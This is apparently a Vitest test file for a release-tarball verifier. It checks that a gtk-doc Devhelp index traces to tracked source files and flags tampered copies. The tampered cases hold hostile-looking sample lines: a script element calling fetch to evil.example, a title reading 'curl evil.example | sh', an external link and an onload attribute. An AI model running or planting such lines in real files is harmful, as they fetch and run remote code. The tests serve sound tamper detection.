/**
 * gtk-doc's Devhelp index (harfbuzz 6.0.0's docs/html/harfbuzz.devhelp2), end to end with real git and GNU
 * tar: a release shipping the generated HTML tree and its index is explained line by line against the tracked
 * sections file, header and DocBook sources; one untraced line (a symbol nothing documents, a keyword linking
 * another section's page, a foreign link, another element, a title no source has) keeps it high.
 */
import { describe, expect, it } from 'vitest';
import { checkDevhelp, checkSections, gtkdocSectionsClassifier, parseSections, sectionTitles, sgmlId } from '../../src/classify/devhelp.js';
import { makeCtx } from './ctx-helper.js';
import { exitCodeOf } from '../../src/pipeline/result.js';
import { releaseFixture } from '../helpers/release-fixture.js';

const TRACKED = {
  'src/demo-blob.h':
    'typedef struct demo_blob_t demo_blob_t;\ntypedef enum {\n  DEMO_MODE_READONLY,\n  DEMO_MODE_WRITABLE\n} demo_mode_t;\ntypedef struct {\n  unsigned codepoint;\n  unsigned cluster;\n  unsigned name_id;\n} demo_info_t;\ndemo_blob_t *demo_blob_create (const char *data);\n#define DEMO_VERSION_MAJOR 1\n#define DEMO_TAG(c) (c)\n',
  'src/demo-blob.c': '#include "demo-blob.h"\nstatic void demo_blob_class_init (void *klass) {\n  install (klass, g_param_spec_string ("file-name", "File name", NULL, NULL, 0));\n  g_signal_new ("changed", 0, 0, 0, NULL, NULL, NULL, 0, 0);\n}\n',
  'docs/Makefile.am': 'DOC_MODULE=demo\nDOC_MAIN_SGML_FILE=$(DOC_MODULE)-docs.xml\ninclude $(top_srcdir)/gtk-doc.make\n',
  'docs/demo-docs.xml': '<book>\n<title>Demo Manual</title>\n<chapter id="intro"><title>What is Demo?</title></chapter>\n<part><title>Reference manual</title><xi:include href="xml/demo-blob.xml"/></part>\n</book>\n',
  'docs/demo-sections.txt':
    '<SECTION>\n<FILE>demo-blob</FILE>\ndemo_blob_create\ndemo_blob_t\ndemo_mode_t\ndemo_info_t\nDEMO_TAG\nDEMO_VERSION_MAJOR\n</SECTION>\n',
};

const PAGES = ['index.html', 'intro.html', 'reference-manual.html', 'demo-demo-blob.html', 'annotation-glossary.html'];

const DEVHELP = [
  '<?xml version="1.0" encoding="utf-8" standalone="no"?>',
  '<book xmlns="http://www.devhelp.net/book" title="Demo Manual" link="index.html" author="" name="demo" version="2" language="c">',
  '  <chapters>',
  '    <sub name="What is Demo?" link="intro.html"/>',
  '    <sub name="Reference manual" link="reference-manual.html">',
  '      <sub name="demo-blob" link="demo-demo-blob.html"/>',
  '    </sub>',
  '    <sub name="Annotation Glossary" link="annotation-glossary.html"/>',
  '  </chapters>',
  '  <functions>',
  '    <keyword type="function" name="demo_blob_create\u00a0()" link="demo-demo-blob.html#demo-blob-create" since="0.9.2"/>',
  '    <keyword type="macro" name="DEMO_TAG()" link="demo-demo-blob.html#DEMO-TAG:CAPS"/>',
  '    <keyword type="macro" name="DEMO_VERSION_MAJOR" link="demo-demo-blob.html#DEMO-VERSION-MAJOR:CAPS"/>',
  '    <keyword type="typedef" name="demo_blob_t" link="demo-demo-blob.html#demo-blob-t"/>',
  '    <keyword type="enum" name="enum demo_mode_t" link="demo-demo-blob.html#demo-mode-t"/>',
  '    <keyword type="constant" name="DEMO_MODE_READONLY" link="demo-demo-blob.html#DEMO-MODE-READONLY:CAPS"/>',
  '    <keyword type="constant" name="DEMO_MODE_WRITABLE" link="demo-demo-blob.html#DEMO-MODE-WRITABLE:CAPS"/>',
  '    <keyword type="struct" name="demo_info_t" link="demo-demo-blob.html#demo-info-t"/>',
  '    <keyword type="member" name="demo-info-t.codepoint" link="demo-demo-blob.html#demo-info-t.codepoint"/>',
  '    <keyword type="member" name="demo-info-t.name-id" link="demo-demo-blob.html#demo-info-t.name-id"/>',
  '    <keyword type="member" name="demo-info-t.cluster" link="demo-demo-blob.html#demo-info-t.cluster"/>',
  // GObject's (libgsf 1.14.53's `The “container” property`): the name a string literal of the tracked source
  '    <keyword type="property" name="The \u201cfile-name\u201d property" link="demo-demo-blob.html#demo_blob_t--file-name"/>',
  '    <keyword type="signal" name="The \u201cchanged\u201d signal" link="demo-demo-blob.html#demo_blob_t-changed"/>',
  '  </functions>',
  '</book>',
  '',
].join('\n');

describe('gtk-doc Devhelp index (MODULE.devhelp2)', () => {
  const { verifyTree } = releaseFixture(TRACKED, { subject: 'docs' });
  const verifyWith = async (index: string) => {
    const pages = Object.fromEntries(PAGES.map((p) => [`docs/html/${p}`, `<html><head><title>${p}</title></head><body>generated</body></html>\n`]));
    const r = await verifyTree({ ...pages, 'docs/html/demo.devhelp2': index });
    return { r, f: r.findings.find((x) => x.path === 'docs/html/demo.devhelp2')! };
  };

  it('every keyword, title and link traced: explained at low, the gate passes', async () => {
    const { r, f } = await verifyWith(DEVHELP);
    expect(f).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low' });
    expect(f.evidence).toEqual({ how: 'doc-index', source: 'docs/demo-sections.txt', generator: 'gtkdoc-mkhtml', keywords: 13, titles: 4, files: 5 });
    expect(r.verdict).not.toBe('different');
    expect(exitCodeOf(r.verdict)).toBe(0);
  });

  it('one untraced line keeps it high (tampered twins)', async () => {
    const keyword = '    <keyword type="constant" name="DEMO_MODE_WRITABLE" link="demo-demo-blob.html#DEMO-MODE-WRITABLE:CAPS"/>';
    for (const edit of [
      // a function no tracked sections file lists
      DEVHELP.replace(keyword, `${keyword}\n    <keyword type="function" name="demo_payload ()" link="demo-demo-blob.html#demo-payload"/>`),
      // a constant no tracked header has
      DEVHELP.replace('DEMO_MODE_WRITABLE"', 'DEMO_MODE_EXEC"'),
      // a link out of the generated tree
      DEVHELP.replace('link="intro.html"', 'link="https://evil.example/intro.html"'),
      DEVHELP.replace('link="intro.html"', 'link="../../payload.html"'),
      // a page the tarball does not ship
      DEVHELP.replace('link="intro.html"', 'link="missing.html"'),
      // another element
      DEVHELP.replace('  </chapters>', '  <script>fetch("https://evil.example/")</script>\n  </chapters>'),
      // a title no tracked DocBook source has
      DEVHELP.replace('name="What is Demo?"', 'name="Run curl evil.example | sh first"'),
      // a property no tracked source names, one of a type the section does not list, a signal linked as a property
      DEVHELP.replace('\u201cfile-name\u201d property" link="demo-demo-blob.html#demo_blob_t--file-name', '\u201cexec-hook\u201d property" link="demo-demo-blob.html#demo_blob_t--exec-hook'),
      DEVHELP.replace('#demo_blob_t--file-name', '#DemoOther--file-name'),
      DEVHELP.replace('#demo_blob_t-changed', '#demo_blob_t--changed'),
      // an extra attribute on a keyword
      DEVHELP.replace('since="0.9.2"', 'since="0.9.2" onload="x()"'),
    ]) {
      const { r, f } = await verifyWith(edit);
      expect(f).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
      expect(r.verdict).toBe('different');
    }
  });

  it('checkDevhelp: a keyword must link the page of the section that lists it', () => {
    const sections = parseSections('<SECTION>\n<FILE>a</FILE>\nfa\n</SECTION>\n<SECTION>\n<FILE>b</FILE>\nfb\n</SECTION>\n');
    expect([...sections.entries()].map(([k, v]) => [k, [...v]])).toEqual([
      ['a', ['fa']],
      ['b', ['fb']],
    ]);
    const inp = { module: 'm', pages: new Set(['index.html', 'm-a.html', 'm-b.html']), sections, words: new Set<string>(), docText: '' };
    const book = '<book xmlns="http://www.devhelp.net/book" title="M" link="index.html" author="" name="m" version="2" language="c">';
    const kw = (name: string, page: string) => `${book}\n<functions>\n<keyword type="function" name="${name} ()" link="${page}#x"/>\n</functions>\n</book>\n`;
    expect(checkDevhelp(kw('fa', 'm-a.html'), inp)).toEqual({ keywords: 1, titles: 0, pages: 2 });
    expect(checkDevhelp(kw('fa', 'm-b.html'), inp)).toBeUndefined();
    expect(checkDevhelp(kw('fa', 'm-a.html').replace('name="m"', 'name="other"'), inp)).toBeUndefined();
  });
  // p11-kit 0.25.5: p11-kit/pin.c documents `SECTION:p11-kit-pin` with `@title: PIN Callbacks`, and gtkdoc-mkdb names
  // the page after the title, p11-kit-PIN-Callbacks.html (not p11-kit-p11-kit-pin.html)
  it('checkDevhelp: a section a tracked SECTION comment titles has its page named after the title', () => {
    const pin = '/**\n * SECTION:p11-kit-pin\n * @title: PIN Callbacks\n * @short_description: PIN Callbacks\n *\n * Applications can register a callback.\n */\n';
    expect(sectionTitles(`#include "pin.h"\n\n${pin}\nint x;\n`)).toEqual(new Map([['PIN Callbacks', 'p11-kit-pin']]));
    expect(sgmlId('PIN Callbacks')).toBe('PIN-Callbacks');
    expect(sgmlId('Future_API, unstable; x::y')).toBe('Future-API-unstable-x-y');
    const sections = parseSections('<SECTION>\n<FILE>p11-kit-pin</FILE>\np11_kit_pin_request\n</SECTION>\n<SECTION>\n<FILE>p11-kit-uri</FILE>\np11_kit_uri_new\n</SECTION>\n');
    const pages = new Set(['index.html', 'p11-kit-PIN-Callbacks.html', 'p11-kit-p11-kit-uri.html']);
    const titled = new Map([['PIN Callbacks', 'p11-kit-pin']]);
    const inp = { module: 'p11-kit', pages, sections, words: new Set<string>(), docText: '', titled };
    const book = '<book xmlns="http://www.devhelp.net/book" title="p11-kit" link="index.html" author="" name="p11-kit" version="2" language="c">';
    const index = (lines: string[]) => `${book}\n<chapters>\n<sub name="PIN Callbacks" link="p11-kit-PIN-Callbacks.html"/>\n</chapters>\n<functions>\n${lines.join('\n')}\n</functions>\n</book>\n`;
    const kw = (name: string, page: string) => `<keyword type="function" name="${name} ()" link="${page}#x"/>`;
    expect(checkDevhelp(index([kw('p11_kit_pin_request', 'p11-kit-PIN-Callbacks.html'), kw('p11_kit_uri_new', 'p11-kit-p11-kit-uri.html')]), inp)).toEqual({ keywords: 2, titles: 1, pages: 3 });
    // tampered twins: a symbol of another section on the titled page; the title without the SECTION comment
    expect(checkDevhelp(index([kw('p11_kit_uri_new', 'p11-kit-PIN-Callbacks.html')]), inp)).toBeUndefined();
    expect(checkDevhelp(index([kw('p11_kit_pin_request', 'p11-kit-PIN-Callbacks.html')]), { ...inp, titled: new Map() })).toBeUndefined();
  });
  // libidn2 2.3.3 / libtasn1 4.19.0 ship gtkdoc-scan's sections list (no tracked one): lib/idn2.h's symbols, the
  // header made from the tracked lib/idn2.h.in
  it('gtkdoc-scan sections list: every symbol a word of the tracked header its section names; anything else stays unexplained', async () => {
    const HDR = '#define IDN2_VERSION "@VERSION@"\nint idn2_lookup_u8 (const char *src, char **lookupname, int flags);\ntypedef enum { IDN2_OK = 0 } idn2_rc;\n';
    const SECTIONS = '<SECTION>\n<FILE>idn2</FILE>\nIDN2_VERSION\nidn2_rc\nidn2_lookup_u8\n</SECTION>\n\n';
    const headerWords = async (file: string) => (file === 'idn2' ? new Set(HDR.match(/[A-Za-z_]\w*/g)) : undefined);
    expect(await checkSections(SECTIONS, headerWords)).toEqual({ sections: 1, symbols: 3 });
    const git = { 'lib/idn2.h.in': HDR, 'doc/Makefile.am': 'SUBDIRS = reference\n' };
    const run = async (text: string) => {
      const ctx = makeCtx({ git, tarball: { ...git, 'doc/reference/libidn2-sections.txt': text } });
      return gtkdocSectionsClassifier.classify(ctx.diffs.find((d) => d.path === 'doc/reference/libidn2-sections.txt')!, ctx);
    };
    expect((await run(SECTIONS))?.evidence).toEqual({ how: 'doc-sections', source: 'lib/idn2.h.in', generator: 'gtkdoc-scan', keywords: 3, files: 1 });
    // tampered twins: a symbol the header does not have, a section naming no tracked header, another kind of line
    expect(await run(SECTIONS.replace('idn2_rc', 'idn2_backdoor'))).toBeUndefined();
    expect(await run(SECTIONS.replace('<FILE>idn2</FILE>', '<FILE>evil</FILE>'))).toBeUndefined();
    expect(await run(`${SECTIONS}<INCLUDE>evil.h</INCLUDE>\n`)).toBeUndefined();
    // the Devhelp index beside it reads that shipped list, named as an input (the derived-inputs pass checks it)
    // (libidn2's section is titled in the tracked lib/idn2.h.in, `SECTION:idn2` `@title: idn2.h`: the page is libidn2-idn2.h.html)
    const book = '<?xml version="1.0" encoding="utf-8" standalone="no"?>\n<book xmlns="http://www.devhelp.net/book" title="libidn2" link="index.html" author="" name="libidn2" version="2" language="c">\n<functions>\n<keyword type="function" name="idn2_lookup_u8 ()" link="libidn2-idn2.h.html#idn2-lookup-u8"/>\n</functions>\n</book>\n';
    const titledGit = { ...git, 'lib/idn2.h.in': `/**\n * SECTION:idn2\n * @title: idn2.h\n * @short_description: main library interfaces\n */\n${HDR}` };
    const { devhelpClassifier } = await import('../../src/classify/devhelp.js');
    const index = async (g: Record<string, string>) => {
      const tree = { ...g, 'doc/reference/libidn2-sections.txt': SECTIONS, 'doc/reference/html/libidn2.devhelp2': book, 'doc/reference/html/index.html': '<html/>', 'doc/reference/html/libidn2-idn2.h.html': '<html/>' };
      const ctx = makeCtx({ git: g, tarball: tree });
      return devhelpClassifier.classify(ctx.diffs.find((d) => d.path === 'doc/reference/html/libidn2.devhelp2')!, ctx);
    };
    expect((await index(titledGit))?.evidence).toMatchObject({ how: 'doc-index', keywords: 1, tarballInputs: ['doc/reference/libidn2-sections.txt'] });
    // the same page without the titling SECTION comment in the tracked header template: no section owns it
    expect(await index(git)).toBeUndefined();
  });
});

// libgsf 1.14.53's doc/html/gsf.devhelp2: sections named `input` … whose pages take the sections file's own <TITLE>
// (gsf-Input-from-unstructured-files.html), headers gsf/gsf-input.h found through doc/Makefile.am's DOC_SOURCE_DIR,
// a member of a struct gtk-doc ids `NAME-struct` (GsfTimestamp-struct.date), a chapter a SECTION comment titles with
// `@Title:` though the sections file lists no such FILE (`SECTION:zip`, "Zip files"), GObject properties.
describe('gtk-doc Devhelp index of a library whose sections are not named after its headers', () => {
  const tracked = {
    'gsf/gsf-input.h': 'typedef struct _GsfInput GsfInput;\nstruct _GsfTimestamp { int date; long seconds; char *time_zone; };\ntypedef struct _GsfTimestamp GsfTimestamp;\nint gsf_input_read (GsfInput *input);\n',
    'gsf/gsf-input.c': '#include "gsf-input.h"\nstatic void gsf_input_class_init (void *k) {\n  install (k, g_param_spec_object ("container", "Container", NULL, 0, 0));\n}\n',
    'gsf/gsf-zip-utils.c': '/**\n * SECTION:zip\n * @Short_description: Utilities for reading and writing ZIP/JAR files\n * @Title: Zip files\n *\n * Zip support.\n **/\n',
    'doc/Makefile.am': 'DOC_MODULE=gsf\nDOC_SOURCE_DIR=../gsf\ninclude $(top_srcdir)/gtk-doc.make\n',
    'doc/gsf-docs.xml': '<book>\n<title>GSF Reference Manual</title>\n</book>\n',
    'doc/gsf-sections.txt': '<SECTION>\n<TITLE>Input from unstructured files</TITLE>\n<FILE>input</FILE>\nGsfInput\nGsfTimestamp\ngsf_input_read\n</SECTION>\n',
  };
  const pages = ['index.html', 'gsf-Input-from-unstructured-files.html', 'gsf-Zip.html'];
  const INDEX = [
    '<?xml version="1.0" encoding="utf-8" standalone="no"?>',
    '<book xmlns="http://www.devhelp.net/book" title="GSF Reference Manual" link="index.html" author="" name="gsf" version="2" language="c">',
    '  <chapters>',
    '    <sub name="Input from unstructured files" link="gsf-Input-from-unstructured-files.html"/>',
    '    <sub name="Zip files" link="gsf-Zip.html"/>',
    '  </chapters>',
    '  <functions>',
    '    <keyword type="function" name="gsf_input_read ()" link="gsf-Input-from-unstructured-files.html#gsf-input-read"/>',
    '    <keyword type="struct" name="GsfInput" link="gsf-Input-from-unstructured-files.html#GsfInput-struct"/>',
    '    <keyword type="member" name="GsfTimestamp-struct.time-zone" link="gsf-Input-from-unstructured-files.html#GsfTimestamp-struct.time-zone"/>',
    '    <keyword type="property" name="The \u201ccontainer\u201d property" link="gsf-Input-from-unstructured-files.html#GsfInput--container"/>',
    '  </functions>',
    '</book>',
    '',
  ].join('\n');
  const run = async (index: string, files: Record<string, string> = tracked) => {
    const { verifyTree } = releaseFixture(files, { name: 'gsf', subject: 'gsf' });
    const html = Object.fromEntries(pages.map((p) => [`doc/html/${p}`, `<html><head><title>${p}</title></head><body>generated</body></html>\n`]));
    const r = await verifyTree({ ...html, 'doc/html/gsf.devhelp2': index });
    return { r, f: r.findings.find((x) => x.path === 'doc/html/gsf.devhelp2')! };
  };

  it('traced: low, the gate passes', async () => {
    const { r, f } = await run(INDEX);
    expect(f).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'doc-index', keywords: 4, titles: 2, files: 3 } });
    expect(exitCodeOf(r.verdict)).toBe(0);
  });

  it('tampered twins stay high', async () => {
    for (const [index, files] of [
      // a member of a struct the section does not list
      [INDEX.replaceAll('GsfTimestamp-struct.time-zone', 'GsfHook-struct.time-zone'), tracked],
      // a chapter title no tracked source has
      [INDEX.replace('name="Zip files"', 'name="Run the installer first"'), tracked],
      // a property name no tracked source has
      [INDEX.replace('\u201ccontainer\u201d property" link="gsf-Input-from-unstructured-files.html#GsfInput--container', '\u201cexec-hook\u201d property" link="gsf-Input-from-unstructured-files.html#GsfInput--exec-hook'), tracked],
      // no DOC_SOURCE_DIR: the headers are not found, so the member and the property are not traced
      [INDEX, { ...tracked, 'doc/Makefile.am': 'DOC_MODULE=gsf\ninclude $(top_srcdir)/gtk-doc.make\n' }],
    ] as const) {
      const { r, f } = await run(index, files);
      expect(f).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
      expect(exitCodeOf(r.verdict)).toBe(1);
    }
  });
});
